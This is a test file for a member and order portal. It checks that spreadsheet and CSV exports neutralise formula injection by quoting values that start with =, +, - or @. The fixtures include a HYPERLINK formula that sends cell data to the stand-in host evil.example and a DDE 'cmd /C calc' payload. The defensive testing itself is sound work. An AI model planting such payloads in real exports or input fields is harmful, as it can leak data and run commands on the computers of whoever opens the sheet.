// Exported text that a spreadsheet would read as a formula (issue 28 item 4,
// docs/decisions.md 105): a member's name or an order's delivery and answers
// starting =, +, - or @ are written with a leading quote in every export, so
// neither the xlsx, nor the sheet saved as CSV and opened again, holds a
// formula; and a sheet the portal wrote, imported again, gives back the text
// as it was (the quote is taken off on import).
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { and, eq, inArray, like } from "drizzle-orm";
import * as XLSX from "xlsx";
import { orderItems, orders, properties, userValues, users } from "../../src/db/schema";
import { ORDER_STATE, PROPERTY_TYPE, SEND_STATE } from "../../src/protocol/enumerations";
import type { ApiClient } from "../../src/protocol/client";
import { makeActivity, makeQuiz } from "../helpers/activities";
import { START, startTestApp, type TestApp } from "../helpers/app";
import { valueOf } from "../helpers/codes";
import { ONBOARDING_HEADER, onboardingRows } from "../helpers/member-sheets";
import { fetchFile, formulaCells, reopenedAsCsv, XLSX_TYPE, xlsxFile } from "../helpers/sheets";

type Answer = Record<string, any>;
let t: TestApp;
let op: ApiClient;
let editor: ApiClient;
let nameProperty: number;
let activityId: number;
let trade: string;

/** Members fx00001-fx00005 by these names; the last really starts with a quote before "=". */
const NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-", "@SUM(1+1)", "'=quoted"];
const employeesOf = (i: number) => `fx0000${i + 1}`;
/** The order of fx00001 (named as NAMES[0]): its delivery and its answer. */
const ORDER = { liaison: "=cmd|' /C calc'!A0", phone: "+86 138 0013 8000", addressInfo: "-", answer: "@SUM(1+1)" };
/** What every export writes for a text starting with a trigger, or with quotes and then one. */
const quoted = (text: string) => `'${text}`;

beforeAll(async () => {
  t = await startTestApp();
  [op, editor] = await Promise.all([t.as("cn000003"), t.as("cn000002")]);
  const created = await op.upload<Answer>("/user/operation/import/update", xlsxFile([ONBOARDING_HEADER, ...onboardingRows(NAMES.length, { prefix: "fx", phonePrefix: "151" })]), "members.xlsx");
  expect(created.message.code).toBe("SUCCESS");
  [{ id: nameProperty }] = (await t.db.select({ id: properties.id }).from(properties).where(eq(properties.titleEn, "Name"))) as [{ id: number }];
  const [first] = await t.db.select({ id: users.id }).from(users).where(eq(users.employees, employeesOf(0)));
  const activity = await makeActivity(t.db, { nameZh: "公式", nameEn: "Formulas", hasAddress: true, hasExpress: true });
  activityId = activity.id;
  const [question] = await makeQuiz(t.db, activity.id, [{ titleZh: "留言", type: PROPERTY_TYPE.PROPERTY_TYPE_INPUT }]);
  trade = `FX${START.getTime()}`;
  const [order] = await t.db
    .insert(orders)
    .values({ trade, userId: first!.id, state: ORDER_STATE.ORDER_STATE_SUCCESS, sendState: SEND_STATE.SEND_STATE_WAIT, price: 0, amount: 0, points: 500, liaison: ORDER.liaison, phone: ORDER.phone, addressInfo: ORDER.addressInfo, createdAt: START, updatedAt: START })
    .returning();
  await t.db.insert(orderItems).values({ orderId: order!.id, childTrade: `${trade}-1`, userId: first!.id, activityId, seq: 1, places: 1, state: ORDER_STATE.ORDER_STATE_SUCCESS, quests: [{ id: question!.id, value: ORDER.answer }], createdAt: START });
}, 90_000);
afterAll(() => t.close());
// The names as members typed them on their profile page (again before each test: an import that kept the quote would have changed them).
beforeEach(async () => {
  const members = await t.db.select({ id: users.id, employees: users.employees }).from(users).where(like(users.employees, "fx%"));
  for (const [i, name] of NAMES.entries()) {
    const member = members.find((m) => m.employees === employeesOf(i))!;
    await t.db.update(userValues).set({ value: name }).where(and(eq(userValues.userId, member.id), eq(userValues.propertyId, nameProperty)));
  }
});

/** The first sheet of a downloaded workbook, read with formulas, and its rows of raw values. */
function sheetOf(bytes: Uint8Array, name?: string) {
  const book = XLSX.read(bytes, { type: "array", cellFormula: true });
  const sheet = book.Sheets[name ?? book.SheetNames[0]!]!;
  return { sheet, rows: XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: null }) };
}

describe("the member exports", () => {
  test("the search's export quotes each name starting =, +, - or @ (or a quote before one), holds no formula, nor does its CSV; imported again, every name is as it was", async () => {
    const file = await fetchFile(op, "/user/operation/export/list", { account: "fx0000" });
    expect(file.code).toBe("SUCCESS");
    const { sheet, rows } = sheetOf(file.bytes!);
    expect(formulaCells(sheet)).toEqual([]);
    const byEmployees = (list: unknown[][]) => NAMES.map((_, i) => list.find((r) => r[0] === employeesOf(i))!);
    expect(byEmployees(rows).map((r) => r.slice(0, 3))).toEqual(NAMES.map((name, i) => [employeesOf(i), quoted(name), `1510000000${i + 1}`]));
    const csv = reopenedAsCsv(sheet);
    expect(csv.formulas).toEqual([]);
    expect(byEmployees(csv.rows).map((r) => r[1])).toEqual(NAMES.map(quoted));

    // Imported back as it was downloaded: nothing changes, and the rows read are the names as they are.
    const again = await op.upload<Answer>("/user/operation/import/update", new Blob([file.bytes!], { type: XLSX_TYPE }), file.name!);
    expect(again.message.code).toBe("SUCCESS");
    expect([again.create, again.update, again.count]).toEqual([0, 0, 0]);
    expect(new Set(again.list.map((r: Answer) => r.verdict))).toEqual(new Set(["same"]));
    const readBack = byEmployees(again.list.map((r: Answer) => r.cells));
    expect(readBack.map((cells) => cells[1])).toEqual(NAMES);
    const members = await t.db.select({ id: users.id, employees: users.employees }).from(users).where(inArray(users.employees, NAMES.map((_, i) => employeesOf(i))));
    for (const [i, name] of NAMES.entries()) expect((await valueOf(t, members.find((m) => m.employees === employeesOf(i))!.id, nameProperty))?.value).toBe(name);

    // Its feedback table quotes them again.
    const log = await fetchFile(op, "/user/operation/download/log", { kind: "update", log: again.key });
    const feedback = sheetOf(log.bytes!);
    expect(formulaCells(feedback.sheet)).toEqual([]);
    expect(NAMES.map((_, i) => feedback.rows.find((r) => r[1] === employeesOf(i))![2])).toEqual(NAMES.map(quoted));
  });

  test("the yearly fee record quotes them too", async () => {
    const file = await fetchFile(op, "/user/operation/export/member", { year: "2026" });
    const { sheet, rows } = sheetOf(file.bytes!, "未缴费");
    expect(formulaCells(sheet)).toEqual([]);
    expect(NAMES.map((_, i) => rows.find((r) => r[0] === employeesOf(i))![1])).toEqual(NAMES.map(quoted));
  });
});

describe("the order exports", () => {
  test("the orders' sheet quotes the member's name, the delivery and the answer; points stay a number; no formula, in the xlsx or its CSV", async () => {
    const file = await fetchFile(editor, "/order/activity/export", { id: String(activityId) });
    expect(file.code).toBe("SUCCESS");
    const { sheet, rows } = sheetOf(file.bytes!);
    expect(formulaCells(sheet)).toEqual([]);
    expect(rows[0]![17]).toBe("留言");
    const row = rows.find((r) => r[0] === trade)!;
    // 姓名, 积分, 收件人, 收件电话, 收货地址, then the answer.
    expect([row[4], row[11], row[12], row[13], row[14], row[17]]).toEqual([quoted(NAMES[0]!), 5, quoted(ORDER.liaison), quoted(ORDER.phone), quoted(ORDER.addressInfo), quoted(ORDER.answer)]);
    const csv = reopenedAsCsv(sheet);
    expect(csv.formulas).toEqual([]);
    const line = csv.rows.find((r) => r[0] === trade)!;
    expect([line[4], line[12], line[13], line[14], line[17]]).toEqual([quoted(NAMES[0]!), quoted(ORDER.liaison), quoted(ORDER.phone), quoted(ORDER.addressInfo), quoted(ORDER.answer)]);
  });

  test("the courier sheet quotes the delivery; filled in and imported, it reads the delivery as it was, and its feedback table quotes it again", async () => {
    const file = await fetchFile(editor, "/order/activity/export", { id: String(activityId), express: "1" });
    const { sheet, rows } = sheetOf(file.bytes!);
    expect(formulaCells(sheet)).toEqual([]);
    const row = rows.find((r) => r[0] === trade)!;
    expect(row.slice(2, 5)).toEqual([quoted(ORDER.liaison), quoted(ORDER.phone), quoted(ORDER.addressInfo)]);
    expect(reopenedAsCsv(sheet).rows.find((r) => r[0] === trade)!.slice(2, 5)).toEqual([quoted(ORDER.liaison), quoted(ORDER.phone), quoted(ORDER.addressInfo)]);

    // Staff fill in the parcel and upload the sheet as it is.
    const filled = rows.map((r) => (r[0] === trade ? [...r.slice(0, 5), "顺丰速运", "SF5000000001"] : r));
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(filled), "Sheet1");
    const answer = await editor.upload<Answer>("/order/import/express", new Blob([XLSX.write(book, { type: "array", bookType: "xlsx" }) as ArrayBuffer], { type: XLSX_TYPE }), "courier.xlsx");
    expect({ code: answer.message.code, count: answer.count }).toEqual({ code: "SUCCESS", count: 1 });
    expect(answer.list[0].cells.slice(0, 7)).toEqual([trade, "公式", ORDER.liaison, ORDER.phone, ORDER.addressInfo, "顺丰速运", "SF5000000001"]);
    const log = sheetOf((await fetchFile(editor, "/order/import/log", { kind: "express", log: answer.key })).bytes!);
    expect(formulaCells(log.sheet)).toEqual([]);
    expect(log.rows[1]!.slice(0, 6)).toEqual([2, trade, "公式", quoted(ORDER.liaison), quoted(ORDER.phone), quoted(ORDER.addressInfo)]);
  });
});
